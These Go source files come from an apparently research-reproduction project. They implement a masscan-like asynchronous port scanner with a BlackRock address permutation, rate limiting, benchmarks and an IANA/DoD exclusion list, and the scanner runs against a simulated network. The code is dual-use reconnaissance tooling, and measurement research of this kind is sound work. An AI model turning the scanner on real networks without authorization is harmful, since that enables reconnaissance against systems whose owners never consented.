			left, right = right, tmp
		}
	}
	// After an even number of rounds left is in [0,a) and right in [0,b),
	// so a*right+left enumerates [0, a*b) without collisions.
	return br.a*right + left
}

// Shuffle maps index m in [0, rangeSize) to a unique position in the same
// range. Cycle-walking re-encrypts values that land outside the range
// (possible because a*b may exceed rangeSize).
func (br *blackRock) Shuffle(m uint64) uint64 {
	if br.rangeSize == 0 {
		return 0
	}
	c := br.encryptOnce(m)
	for c >= br.rangeSize {
		c = br.encryptOnce(c)
	}
	return c
}

// decryptOnce inverts one pass of the Feistel network. Each forward round
// replaces (L, R) with (R, (L + F(r, R)) mod m_r), so the inverse recovers
// the pre-round pair as (R' - F(r, L') mod m_r, L'), running the rounds in
// reverse. The round function must be reduced exactly the way encryptOnce
// reduced it — the fast (reciprocal, 32-bit-truncated) and slow (full-width
// modulo) paths realize *different* permutations, so the decryptor mirrors
// the same path selection.
func (br *blackRock) decryptOnce(c uint64) uint64 {
	var left, right uint64
	if br.fastA {
		right = br.aDiv.div(c)
		left = c - right*br.a
	} else {
		left = c % br.a
		right = c / br.a
	}
	for r := br.rounds - 1; r >= 0; r-- {
		var mod, f uint64
		if r&1 == 0 {
			mod = br.a
		} else {
			mod = br.b
		}
		if br.fastRounds {
			f = uint64(uint32(br.round(r, left)))
			if r&1 == 0 {
				f -= br.aDiv.div(f) * mod
			} else {
				f -= br.bDiv.div(f) * mod
			}
		} else {
			f = br.round(r, left) % mod
		}
		var tmp uint64
		if right >= f {
			tmp = right - f
		} else {
			tmp = right + mod - f
		}
		left, right = tmp, left
	}
	return br.a*right + left
}

// Unshuffle is the inverse of Shuffle: Unshuffle(Shuffle(m)) == m for every
// m in [0, rangeSize). Cycle-walking inverts the same way it encrypts —
// encryptOnce is a bijection over [0, a*b), so walking the orbit backwards
// from an in-range position reaches the unique in-range preimage.
func (br *blackRock) Unshuffle(c uint64) uint64 {
	if br.rangeSize == 0 {
		return 0
	}
	m := br.decryptOnce(c)
	for m >= br.rangeSize {
		m = br.decryptOnce(m)
	}
	return m
}

// NewShuffler exposes the BlackRock permutation for benchmarking and for
// callers that need the randomized-iteration primitive alone: it returns a
// bijective map over [0, rangeSize).
func NewShuffler(rangeSize, seed uint64) func(uint64) uint64 {
	br := newBlackRock(rangeSize, seed)
	return br.Shuffle
}

// Permutation is the exported two-way view of the BlackRock cipher: a
// seeded bijection over [0, N) with both directions in O(1) and no state
// proportional to N. The lazy population generator is built on it — the
// forward direction scatters the i-th occupied slot of an allocation across
// the allocation's address block, and the inverse answers "which slot, if
// any, is this probed address?" without enumerating the block.
type Permutation struct {
	br *blackRock
}

// NewPermutation builds a permutation over [0, rangeSize) keyed by seed.
func NewPermutation(rangeSize, seed uint64) Permutation {
	return Permutation{br: newBlackRock(rangeSize, seed)}
}

// Forward maps index m in [0, rangeSize) to its shuffled position.
func (p Permutation) Forward(m uint64) uint64 { return p.br.Shuffle(m) }

// Inverse maps a shuffled position back to its index:
// Inverse(Forward(m)) == m.
func (p Permutation) Inverse(c uint64) uint64 { return p.br.Unshuffle(c) }
