package portscan

// blackRock is a format-preserving permutation over an arbitrary-size
// integer range, modeled on masscan's BlackRock cipher. It lets the scanner
// visit every address of the target space exactly once in a pseudorandom
// order without materializing the shuffle — the property that spreads probe
// load across /24 blocks instead of flooding one network (the paper's
// ethical-scanning requirement).
//
// The construction is a generalized (possibly unbalanced) Feistel network
// over the mixed radix pair a*b >= range, with cycle-walking to stay inside
// the range.
type blackRock struct {
	rangeSize uint64
	a, b      uint64
	seed      uint64
	rounds    int
}

// newBlackRock builds a permutation over [0, rangeSize).
func newBlackRock(rangeSize, seed uint64) *blackRock {
	if rangeSize == 0 {
		return &blackRock{rangeSize: 0}
	}
	// Pick a and b around sqrt(rangeSize) with a*b >= rangeSize.
	a := isqrt(rangeSize - 1)
	if a < 1 {
		a = 1
	}
	for a*a < rangeSize {
		a++
	}
	b := a
	for a*(b-1) >= rangeSize && b > 1 {
		b--
	}
	return &blackRock{rangeSize: rangeSize, a: a, b: b, seed: seed, rounds: 4}
}

func isqrt(n uint64) uint64 {
	if n == 0 {
		return 0
	}
	x := uint64(1) << ((bitsLen(n) + 1) / 2)
	for {
		y := (x + n/x) / 2
		if y >= x {
			return x
		}
		x = y
	}
}

func bitsLen(n uint64) int {
	l := 0
	for n > 0 {
		n >>= 1
		l++
	}
	return l
}

// round is the Feistel round function: any pseudo-random function works;
// this is a splitmix64-style mixer keyed by seed and round index.
func (br *blackRock) round(r int, right uint64) uint64 {
	z := right + br.seed + uint64(r)*0x9e3779b97f4a7c15
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// encryptOnce runs one pass of the unbalanced Feistel network.
func (br *blackRock) encryptOnce(m uint64) uint64 {
	left := m % br.a
	right := m / br.a
	for r := 0; r < br.rounds; r++ {
		var tmp uint64
		if r&1 == 0 {
			tmp = (left + br.round(r, right)) % br.a
		} else {
			tmp = (left + br.round(r, right)) % br.b
		}
		left, right = right, tmp
	}
	// After an even number of rounds left is in [0,a) and right in [0,b),
	// so a*right+left enumerates [0, a*b) without collisions.
	return br.a*right + left
}

// Shuffle maps index m in [0, rangeSize) to a unique position in the same
// range. Cycle-walking re-encrypts values that land outside the range
// (possible because a*b may exceed rangeSize).
func (br *blackRock) Shuffle(m uint64) uint64 {
	if br.rangeSize == 0 {
		return 0
	}
	c := br.encryptOnce(m)
	for c >= br.rangeSize {
		c = br.encryptOnce(c)
	}
	return c
}

// NewShuffler exposes the BlackRock permutation for benchmarking and for
// callers that need the randomized-iteration primitive alone: it returns a
// bijective map over [0, rangeSize).
func NewShuffler(rangeSize, seed uint64) func(uint64) uint64 {
	br := newBlackRock(rangeSize, seed)
	return br.Shuffle
}
