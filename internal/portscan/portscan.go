// Package portscan implements Stage I of the pipeline: a masscan-like
// asynchronous port scanner.
//
// Like masscan, it visits the target address space in a pseudorandom order
// produced by a format-preserving permutation (see blackrock.go), so probe
// load is spread across /24 networks instead of sweeping them sequentially
// — the ethical-scanning property described in Section 3.2. It supports
// exclusion lists (the IANA reserved allocations), a global rate limit, and
// a configurable worker pool standing in for the paper's 64-machine fleet.
//
// The scan space is precomputed: the exclusion list is subtracted from the
// target list once, up front (internal/iprange), so the probe loop iterates
// a dense index space that contains no excluded address and never performs a
// per-probe exclusion check.
package portscan

import (
	"context"
	"errors"
	"fmt"
	"math/bits"
	"runtime/pprof"
	"sync"
	"sync/atomic"
	"time"

	"net/netip"

	"mavscan/internal/iprange"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// Prober answers half-open probes. simnet.Network implements it; a real
// deployment would back it with raw sockets.
type Prober interface {
	// ProbePort returns nil if (ip, port) completes a handshake, and an
	// error classifying the failure otherwise.
	ProbePort(ip netip.Addr, port int) error
}

// Result is one open port.
type Result struct {
	IP   netip.Addr
	Port int
}

// Config parametrizes a scan.
type Config struct {
	// Targets are the prefixes to scan. Required. Overlapping or adjacent
	// prefixes are merged, so every address is visited exactly once.
	Targets []netip.Prefix
	// Exclude removes prefixes from the scan (IANA reserved ranges,
	// opt-outs). Probes to excluded addresses are never sent: the scan
	// space is Targets minus Exclude, computed before the first probe.
	Exclude []netip.Prefix
	// Space, when non-nil, is a precomputed scan space that overrides
	// Targets and Exclude entirely. The orchestrator uses it to hand each
	// shard its flat-index window of the already-subtracted global space;
	// Stats.Excluded is then 0, because exclusions were accounted once by
	// whoever built the space.
	Space *iprange.Set
	// Ports is the port list; the study's is mav.ScanPorts(). Required.
	Ports []int
	// Workers is the number of concurrent probe workers (default 64).
	Workers int
	// RatePerSec caps probes per second across all workers; 0 disables
	// limiting (full simulation speed).
	RatePerSec int
	// Seed keys the address-space permutation.
	Seed uint64
	// Sequential disables the randomized permutation and scans addresses
	// in linear order. It exists for the ablation benchmark showing the
	// per-/24 burst behaviour randomization avoids.
	Sequential bool
}

// Stats summarizes a finished scan.
type Stats struct {
	Probed uint64
	Open   uint64
	// Excluded counts the (address, port) pairs removed from the scan by
	// the exclusion list: |Targets ∩ Exclude| × len(Ports). It is computed
	// arithmetically from the precomputed scan space rather than counted
	// per skipped probe — excluded pairs are never visited at all — so it
	// reports the full exclusion size even if the scan is cancelled early.
	Excluded uint64
	Elapsed  time.Duration
}

// Scanner performs port scans against a Prober.
type Scanner struct {
	prober Prober
	clock  simtime.Sleeper
	tel    *scanTelemetry
}

// scanTelemetry holds the pre-resolved Stage-I metric handles. Handles
// are created once at Instrument time; the probe loop only ever touches
// lock-free counters, and only at chunk/batch granularity.
type scanTelemetry struct {
	scans        *telemetry.Counter // scans started
	probes       *telemetry.Counter // probes actually sent
	open         *telemetry.Counter // open (ip, port) pairs found
	excluded     *telemetry.Counter // pairs removed by the exclusion list
	rateWaits    *telemetry.Counter // times the token bucket made a worker wait
	batches      *telemetry.Counter // result batches handed to the consumer
	batchResults *telemetry.Counter // open ports delivered across all batches
}

// New returns a scanner probing through p, paced by the wall clock.
func New(p Prober) *Scanner { return NewWithClock(p, simtime.Wall{}) }

// NewWithClock returns a scanner whose rate limiter and elapsed-time
// accounting use the given clock instead of the wall clock.
func NewWithClock(p Prober, clock simtime.Sleeper) *Scanner {
	return &Scanner{prober: p, clock: clock}
}

// Instrument registers the scanner's Stage-I metrics with reg. A nil
// registry leaves the scanner uninstrumented (the default): the hot loop
// then performs no telemetry work at all beyond one nil check per chunk.
func (s *Scanner) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	s.tel = &scanTelemetry{
		scans:        reg.Counter("mavscan_portscan_scans_total"),
		probes:       reg.Counter("mavscan_portscan_probes_total"),
		open:         reg.Counter("mavscan_portscan_open_total"),
		excluded:     reg.Counter("mavscan_portscan_excluded_total"),
		rateWaits:    reg.Counter("mavscan_portscan_rate_waits_total"),
		batches:      reg.Counter("mavscan_portscan_batches_total"),
		batchResults: reg.Counter("mavscan_portscan_batch_results_total"),
	}
}

// limiter is a coarse token-bucket rate limiter shared by all workers.
type limiter struct {
	mu     sync.Mutex
	clock  simtime.Sleeper
	rate   float64
	tokens float64
	last   time.Time
	// waits counts the times a worker had to sleep for a token; nil when
	// telemetry is off. Waits are rare by construction (the bucket refills
	// at the probe rate), so one counter add per sleep is free.
	waits *telemetry.Counter
}

func newLimiter(ratePerSec int, clock simtime.Sleeper, waits *telemetry.Counter) *limiter {
	if ratePerSec <= 0 {
		return nil
	}
	return &limiter{clock: clock, rate: float64(ratePerSec), tokens: float64(ratePerSec), last: clock.Now(), waits: waits}
}

func (l *limiter) wait(ctx context.Context) error {
	for {
		l.mu.Lock()
		now := l.clock.Now()
		l.tokens += now.Sub(l.last).Seconds() * l.rate
		if l.tokens > l.rate {
			l.tokens = l.rate
		}
		l.last = now
		if l.tokens >= 1 {
			l.tokens--
			l.mu.Unlock()
			return nil
		}
		need := (1 - l.tokens) / l.rate
		l.mu.Unlock()
		l.waits.Inc()
		select {
		case <-l.clock.After(time.Duration(need * float64(time.Second))):
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// fastDivisor divides by a fixed d with a multiply instead of a hardware
// divide (Granlund–Montgomery/Lemire reciprocal). The quotient hi(M·n) with
// M = ⌊2^64/d⌋+1 is exact for every n with n·d < 2^64; callers must check
// usable() for their maximum numerator.
type fastDivisor struct {
	m uint64 // ⌊2^64/d⌋ + 1
	d uint64
}

func newFastDivisor(d uint64) fastDivisor {
	return fastDivisor{m: ^uint64(0)/d + 1, d: d}
}

// usable reports whether quotients are exact for all n < nMax. d == 1 is
// excluded: its reciprocal (2^64) does not fit a word — and a hardware
// divide by one costs nothing to begin with.
func (f fastDivisor) usable(nMax uint64) bool {
	return f.d > 1 && bits.Len64(nMax)+bits.Len64(f.d) <= 64
}

func (f fastDivisor) div(n uint64) uint64 {
	hi, _ := bits.Mul64(f.m, n)
	return hi
}

// chunk is the unit of work a worker claims from the shared index counter.
// Context cancellation is observed at chunk granularity: the probe loop
// body itself performs no per-probe checks.
const chunk = 4096

// batchCap is the flush threshold for per-worker result buffers.
const batchCap = 256

// Scan probes every (address, port) pair of the configured space, invoking
// fn for each open port. fn is called from multiple goroutines and must be
// safe for concurrent use.
func (s *Scanner) Scan(ctx context.Context, cfg Config, fn func(Result)) (Stats, error) {
	return s.scan(ctx, cfg, func(batch []Result) {
		for _, r := range batch {
			fn(r)
		}
	})
}

// ScanBatches is Scan with slice-granularity delivery: each worker buffers
// its open-port results locally and hands them to fn in batches (at most
// batchCap results each), so consumers synchronize per batch instead of per
// probe. fn is called from multiple goroutines, must be safe for concurrent
// use, and receives ownership of the slice.
func (s *Scanner) ScanBatches(ctx context.Context, cfg Config, fn func([]Result)) (Stats, error) {
	return s.scan(ctx, cfg, fn)
}

func (s *Scanner) scan(ctx context.Context, cfg Config, fn func([]Result)) (Stats, error) {
	start := s.clock.Now()
	if len(cfg.Ports) == 0 {
		return Stats{}, errors.New("portscan: no ports configured")
	}
	nports := uint64(len(cfg.Ports))
	space := cfg.Space
	var excludedPairs uint64
	if space == nil {
		if len(cfg.Targets) == 0 {
			return Stats{}, errors.New("portscan: no target prefixes")
		}
		targets, err := iprange.FromPrefixes(cfg.Targets)
		if err != nil {
			return Stats{}, fmt.Errorf("portscan: targets: %w", err)
		}
		exclude, err := iprange.FromPrefixes(cfg.Exclude)
		if err != nil {
			return Stats{}, fmt.Errorf("portscan: exclude: %w", err)
		}
		// Subtract the exclusions once; the probe loop below never checks
		// them.
		space = targets.Subtract(exclude)
		excludedPairs = (targets.NumAddresses() - space.NumAddresses()) * nports
	}

	tel := s.tel
	if tel != nil {
		tel.scans.Inc()
		// Excluded pairs are arithmetic, not visited, so the counter moves
		// once per scan: probes_total + excluded_total always equals the
		// full |Targets| × |Ports| pair space once the scan completes.
		tel.excluded.Add(excludedPairs)
		inner := fn
		fn = func(batch []Result) {
			tel.batches.Inc()
			tel.batchResults.Add(uint64(len(batch)))
			inner(batch)
		}
	}

	workers := cfg.Workers
	if workers <= 0 {
		workers = 64
	}
	total := space.NumAddresses() * nports
	br := newBlackRock(total, cfg.Seed)
	var waits *telemetry.Counter
	if tel != nil {
		waits = tel.rateWaits
	}
	lim := newLimiter(cfg.RatePerSec, s.clock, waits)

	// The index→(address, port) split divides by the port count millions of
	// times; use the reciprocal form when the range permits (it always does
	// for IPv4 spaces with small port lists).
	portDiv := newFastDivisor(nports)
	fastPorts := portDiv.usable(total)

	var probed, open atomic.Uint64
	var next atomic.Uint64

	// Error handling: the first failure (deterministically the first one
	// recorded, not whichever channel entry happens to range first) wins,
	// and raises a stop flag that halts every worker at its next chunk
	// boundary.
	var stop atomic.Bool
	var errOnce sync.Once
	var firstErr error
	fail := func(err error) {
		errOnce.Do(func() { firstErr = err })
		stop.Store(true)
	}

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Label the worker for CPU profiles: `go tool pprof -tags`
			// attributes hot-loop samples to the Stage-I pool.
			pprof.Do(ctx, pprof.Labels("mavscan_pool", "stage1.portscan"), func(ctx context.Context) {
				s.worker(ctx, cfg, workerState{
					space: space, br: br, lim: lim, fn: fn,
					total: total, nports: nports, portDiv: portDiv, fastPorts: fastPorts,
					next: &next, probed: &probed, open: &open,
					stop: &stop, fail: fail,
				})
			})
		}()
	}
	wg.Wait()
	stats := Stats{
		Probed:   probed.Load(),
		Open:     open.Load(),
		Excluded: excludedPairs,
		Elapsed:  s.clock.Now().Sub(start),
	}
	return stats, firstErr
}

// workerState bundles the shared scan state one probe worker operates on.
type workerState struct {
	space     *iprange.Set
	br        *blackRock
	lim       *limiter
	fn        func([]Result)
	total     uint64
	nports    uint64
	portDiv   fastDivisor
	fastPorts bool
	next      *atomic.Uint64
	probed    *atomic.Uint64
	open      *atomic.Uint64
	stop      *atomic.Bool
	fail      func(error)
}

// worker is the Stage-I probe loop: claim a chunk of the permuted index
// space, probe it, flush open ports in batches. Telemetry counters are
// flushed at chunk granularity so the per-probe body stays counter-free.
func (s *Scanner) worker(ctx context.Context, cfg Config, st workerState) {
	tel := s.tel
	var nProbed, nOpen uint64
	var flushedProbed, flushedOpen uint64
	flushTel := func() {
		if tel == nil {
			return
		}
		tel.probes.Add(nProbed - flushedProbed)
		tel.open.Add(nOpen - flushedOpen)
		flushedProbed, flushedOpen = nProbed, nOpen
	}
	defer func() {
		flushTel()
		st.probed.Add(nProbed)
		st.open.Add(nOpen)
	}()
	var batch []Result
	defer func() {
		if len(batch) > 0 {
			st.fn(batch)
		}
	}()
	var cur iprange.Cursor
	for {
		// Cancellation and failure are observed per chunk; once the
		// context is cancelled no further probe bodies run.
		if st.stop.Load() {
			return
		}
		if err := ctx.Err(); err != nil {
			st.fail(err)
			return
		}
		base := st.next.Add(chunk) - chunk
		if base >= st.total {
			return
		}
		end := base + chunk
		if end > st.total {
			end = st.total
		}
		for i := base; i < end; i++ {
			// Sub-chunk cancellation check: the rate-limited path aborts
			// inside lim.wait, but an unlimited scan would otherwise run a
			// full chunk of probes after cancellation.
			if i&1023 == 1023 {
				if err := ctx.Err(); err != nil {
					st.fail(err)
					return
				}
			}
			idx := i
			if !cfg.Sequential {
				idx = st.br.Shuffle(i)
			}
			var addrIdx uint64
			if st.fastPorts {
				addrIdx = st.portDiv.div(idx)
			} else {
				addrIdx = idx / st.nports
			}
			port := cfg.Ports[idx-addrIdx*st.nports]
			a := st.space.AddrAt(addrIdx, &cur)
			if st.lim != nil {
				if err := st.lim.wait(ctx); err != nil {
					st.fail(err)
					return
				}
			}
			nProbed++
			if s.prober.ProbePort(a, port) == nil {
				nOpen++
				if batch == nil {
					batch = make([]Result, 0, batchCap)
				}
				batch = append(batch, Result{IP: a, Port: port})
				if len(batch) == batchCap {
					st.fn(batch)
					batch = nil
				}
			}
		}
		flushTel()
	}
}
