// Package portscan implements Stage I of the pipeline: a masscan-like
// asynchronous port scanner.
//
// Like masscan, it visits the target address space in a pseudorandom order
// produced by a format-preserving permutation (see blackrock.go), so probe
// load is spread across /24 networks instead of sweeping them sequentially
// — the ethical-scanning property described in Section 3.2. It supports
// exclusion lists (the IANA reserved allocations), a global rate limit, and
// a configurable worker pool standing in for the paper's 64-machine fleet.
package portscan

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"mavscan/internal/simtime"
)

// Prober answers half-open probes. simnet.Network implements it; a real
// deployment would back it with raw sockets.
type Prober interface {
	// ProbePort returns nil if (ip, port) completes a handshake, and an
	// error classifying the failure otherwise.
	ProbePort(ip netip.Addr, port int) error
}

// Result is one open port.
type Result struct {
	IP   netip.Addr
	Port int
}

// Config parametrizes a scan.
type Config struct {
	// Targets are the prefixes to scan. Required.
	Targets []netip.Prefix
	// Exclude removes prefixes from the scan (IANA reserved ranges,
	// opt-outs). Probes to excluded addresses are never sent.
	Exclude []netip.Prefix
	// Ports is the port list; the study's is mav.ScanPorts(). Required.
	Ports []int
	// Workers is the number of concurrent probe workers (default 64).
	Workers int
	// RatePerSec caps probes per second across all workers; 0 disables
	// limiting (full simulation speed).
	RatePerSec int
	// Seed keys the address-space permutation.
	Seed uint64
	// Sequential disables the randomized permutation and scans addresses
	// in linear order. It exists for the ablation benchmark showing the
	// per-/24 burst behaviour randomization avoids.
	Sequential bool
}

// Stats summarizes a finished scan.
type Stats struct {
	Probed   uint64
	Open     uint64
	Excluded uint64
	Elapsed  time.Duration
}

// Scanner performs port scans against a Prober.
type Scanner struct {
	prober Prober
	clock  simtime.Sleeper
}

// New returns a scanner probing through p, paced by the wall clock.
func New(p Prober) *Scanner { return NewWithClock(p, simtime.Wall{}) }

// NewWithClock returns a scanner whose rate limiter and elapsed-time
// accounting use the given clock instead of the wall clock.
func NewWithClock(p Prober, clock simtime.Sleeper) *Scanner {
	return &Scanner{prober: p, clock: clock}
}

// space maps a flat index to an address across multiple prefixes.
type space struct {
	prefixes []netip.Prefix
	cum      []uint64 // cumulative address counts; cum[i] = total before prefix i
	total    uint64
}

func newSpace(prefixes []netip.Prefix) (*space, error) {
	if len(prefixes) == 0 {
		return nil, errors.New("portscan: no target prefixes")
	}
	s := &space{prefixes: prefixes, cum: make([]uint64, len(prefixes))}
	for i, p := range prefixes {
		if !p.Addr().Is4() {
			return nil, fmt.Errorf("portscan: prefix %s is not IPv4", p)
		}
		s.cum[i] = s.total
		s.total += uint64(1) << (32 - p.Bits())
	}
	return s, nil
}

// addr returns the idx-th address of the space.
func (s *space) addr(idx uint64) netip.Addr {
	// Binary search over the cumulative sizes.
	lo, hi := 0, len(s.cum)-1
	for lo < hi {
		mid := (lo + hi + 1) / 2
		if s.cum[mid] <= idx {
			lo = mid
		} else {
			hi = mid - 1
		}
	}
	p := s.prefixes[lo]
	off := uint32(idx - s.cum[lo])
	base := p.Addr().As4()
	v := (uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3])) + off
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
}

// limiter is a coarse token-bucket rate limiter shared by all workers.
type limiter struct {
	mu     sync.Mutex
	clock  simtime.Sleeper
	rate   float64
	tokens float64
	last   time.Time
}

func newLimiter(ratePerSec int, clock simtime.Sleeper) *limiter {
	if ratePerSec <= 0 {
		return nil
	}
	return &limiter{clock: clock, rate: float64(ratePerSec), tokens: float64(ratePerSec), last: clock.Now()}
}

func (l *limiter) wait(ctx context.Context) error {
	if l == nil {
		return nil
	}
	for {
		l.mu.Lock()
		now := l.clock.Now()
		l.tokens += now.Sub(l.last).Seconds() * l.rate
		if l.tokens > l.rate {
			l.tokens = l.rate
		}
		l.last = now
		if l.tokens >= 1 {
			l.tokens--
			l.mu.Unlock()
			return nil
		}
		need := (1 - l.tokens) / l.rate
		l.mu.Unlock()
		select {
		case <-l.clock.After(time.Duration(need * float64(time.Second))):
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

// Scan probes every (address, port) pair of the configured space, invoking
// fn for each open port. fn is called from multiple goroutines and must be
// safe for concurrent use.
func (s *Scanner) Scan(ctx context.Context, cfg Config, fn func(Result)) (Stats, error) {
	start := s.clock.Now()
	if len(cfg.Ports) == 0 {
		return Stats{}, errors.New("portscan: no ports configured")
	}
	sp, err := newSpace(cfg.Targets)
	if err != nil {
		return Stats{}, err
	}
	workers := cfg.Workers
	if workers <= 0 {
		workers = 64
	}
	total := sp.total * uint64(len(cfg.Ports))
	br := newBlackRock(total, cfg.Seed)
	lim := newLimiter(cfg.RatePerSec, s.clock)

	excluded := func(a netip.Addr) bool {
		for _, p := range cfg.Exclude {
			if p.Contains(a) {
				return true
			}
		}
		return false
	}

	var stats Stats
	var probed, open, excl atomic.Uint64
	var wg sync.WaitGroup
	var next atomic.Uint64
	const chunk = 4096
	errCh := make(chan error, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				base := next.Add(chunk) - chunk
				if base >= total {
					return
				}
				end := base + chunk
				if end > total {
					end = total
				}
				for i := base; i < end; i++ {
					if ctx.Err() != nil {
						errCh <- ctx.Err()
						return
					}
					idx := i
					if !cfg.Sequential {
						idx = br.Shuffle(i)
					}
					addrIdx := idx / uint64(len(cfg.Ports))
					port := cfg.Ports[idx%uint64(len(cfg.Ports))]
					a := sp.addr(addrIdx)
					if excluded(a) {
						excl.Add(1)
						continue
					}
					if err := lim.wait(ctx); err != nil {
						errCh <- err
						return
					}
					probed.Add(1)
					if s.prober.ProbePort(a, port) == nil {
						open.Add(1)
						fn(Result{IP: a, Port: port})
					}
				}
			}
		}()
	}
	wg.Wait()
	close(errCh)
	for err := range errCh {
		if err != nil {
			stats = Stats{Probed: probed.Load(), Open: open.Load(), Excluded: excl.Load(), Elapsed: s.clock.Now().Sub(start)}
			return stats, err
		}
	}
	stats = Stats{Probed: probed.Load(), Open: open.Load(), Excluded: excl.Load(), Elapsed: s.clock.Now().Sub(start)}
	return stats, nil
}
