package portscan

import (
	"context"
	"errors"
	"net/netip"
	"sync/atomic"
	"testing"

	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// nopProber answers every probe closed without any shared state.
type nopProber struct{}

var errClosed = errors.New("closed")

func (nopProber) ProbePort(ip netip.Addr, port int) error { return errClosed }

// BenchmarkProbeExcluded measures a scan where 75% of the target space is
// excluded. Exclusions are subtracted from the scan space before the first
// probe, so the excluded (address, port) pairs must contribute nothing to
// the runtime: the reported per-probe cost covers only the surviving 25%.
func BenchmarkProbeExcluded(b *testing.B) {
	cfg := Config{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/20")},
		Exclude: []netip.Prefix{
			netip.MustParsePrefix("10.0.0.0/21"),
			netip.MustParsePrefix("10.0.8.0/22"),
		},
		Ports:   []int{80, 443, 8080, 8443},
		Workers: 4,
		Seed:    42,
	}
	s := NewWithClock(nopProber{}, simtime.Wall{})
	ctx := context.Background()
	var probed uint64
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		stats, err := s.Scan(ctx, cfg, func(Result) {})
		if err != nil {
			b.Fatal(err)
		}
		probed += stats.Probed
	}
	b.StopTimer()
	// 1024 surviving addresses x 4 ports per iteration.
	if want := uint64(b.N) * 1024 * 4; probed != want {
		b.Fatalf("probed %d pairs, want %d", probed, want)
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(probed), "ns/probe")
}

// BenchmarkScanThroughput is the raw per-probe cost of the hot loop with no
// exclusions: permutation, index split, address mapping, and probe dispatch.
func BenchmarkScanThroughput(b *testing.B) {
	benchScanThroughput(b, false)
}

// BenchmarkScanThroughputTelemetry is the same hot loop with the metrics
// registry attached. Counters are flushed once per chunk, so the per-probe
// delta against BenchmarkScanThroughput is the telemetry-on overhead.
func BenchmarkScanThroughputTelemetry(b *testing.B) {
	benchScanThroughput(b, true)
}

func benchScanThroughput(b *testing.B, instrumented bool) {
	cfg := Config{
		Targets: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/20")},
		Ports:   []int{80, 443, 8080, 8443},
		Workers: 4,
		Seed:    42,
	}
	s := NewWithClock(nopProber{}, simtime.Wall{})
	if instrumented {
		s.Instrument(telemetry.New(simtime.Wall{}))
	}
	ctx := context.Background()
	var probed atomic.Uint64
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		stats, err := s.Scan(ctx, cfg, func(Result) {})
		if err != nil {
			b.Fatal(err)
		}
		probed.Add(stats.Probed)
	}
	b.StopTimer()
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(probed.Load()), "ns/probe")
}
