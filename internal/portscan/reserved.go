package portscan

import "net/netip"

// IANAReserved returns the IANA special-purpose and reserved IPv4
// allocations the paper excluded from its scan (multicast, private use,
// loopback, link-local, documentation ranges, the former Class E space,
// and so on). Removing them leaves roughly 3.5B scannable addresses.
//
// Note that the *simulated* internet deliberately lives inside 10.0.0.0/8;
// a simulation run must therefore not pass this list as an exclusion. It
// exists for the real-network deployment path and for the exclusion
// accounting tests.
func IANAReserved() []netip.Prefix {
	cidrs := []string{
		"0.0.0.0/8",       // "this network"
		"10.0.0.0/8",      // private use
		"100.64.0.0/10",   // shared address space (CGN)
		"127.0.0.0/8",     // loopback
		"169.254.0.0/16",  // link local
		"172.16.0.0/12",   // private use
		"192.0.0.0/24",    // IETF protocol assignments
		"192.0.2.0/24",    // TEST-NET-1
		"192.88.99.0/24",  // 6to4 relay anycast (deprecated)
		"192.168.0.0/16",  // private use
		"198.18.0.0/15",   // benchmarking
		"198.51.100.0/24", // TEST-NET-2
		"203.0.113.0/24",  // TEST-NET-3
		"224.0.0.0/4",     // multicast
		"240.0.0.0/4",     // reserved (former Class E)
		// US Department of Defense allocations, excluded by the paper.
		"6.0.0.0/8", "7.0.0.0/8", "11.0.0.0/8", "21.0.0.0/8", "22.0.0.0/8",
		"26.0.0.0/8", "28.0.0.0/8", "29.0.0.0/8", "30.0.0.0/8", "33.0.0.0/8",
		"55.0.0.0/8", "214.0.0.0/8", "215.0.0.0/8",
	}
	out := make([]netip.Prefix, len(cidrs))
	for i, c := range cidrs {
		out[i] = netip.MustParsePrefix(c)
	}
	return out
}

// ReservedAddressCount returns the number of IPv4 addresses covered by the
// reserved list (prefixes are disjoint by construction).
func ReservedAddressCount() uint64 {
	var total uint64
	for _, p := range IANAReserved() {
		total += uint64(1) << (32 - p.Bits())
	}
	return total
}
