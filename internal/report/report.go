// Package report renders the reproduced tables and figures as plain text,
// with paper-reference columns where the paper published numbers. It is
// shared by the cmd/ tools and the benchmark harness so both print the
// same rows.
package report

import (
	"fmt"
	"io"
	"sort"
	"strings"

	"mavscan/internal/analysis"
	"mavscan/internal/attacker"
	"mavscan/internal/mav"
	"mavscan/internal/observer"
	"mavscan/internal/population"
	"mavscan/internal/scanner"
	"mavscan/internal/study"
)

// table is a tiny column formatter.
type table struct {
	header []string
	rows   [][]string
}

func (t *table) add(cells ...string) { t.rows = append(t.rows, cells) }

func (t *table) render(w io.Writer) {
	widths := make([]int, len(t.header))
	for i, h := range t.header {
		widths[i] = len(h)
	}
	for _, row := range t.rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	line := func(cells []string) {
		parts := make([]string, len(cells))
		for i, c := range cells {
			parts[i] = fmt.Sprintf("%-*s", widths[i], c)
		}
		fmt.Fprintln(w, strings.TrimRight(strings.Join(parts, "  "), " "))
	}
	line(t.header)
	sep := make([]string, len(t.header))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	line(sep)
	for _, row := range t.rows {
		line(row)
	}
}

// Table1 prints the manual-investigation summary from the catalog.
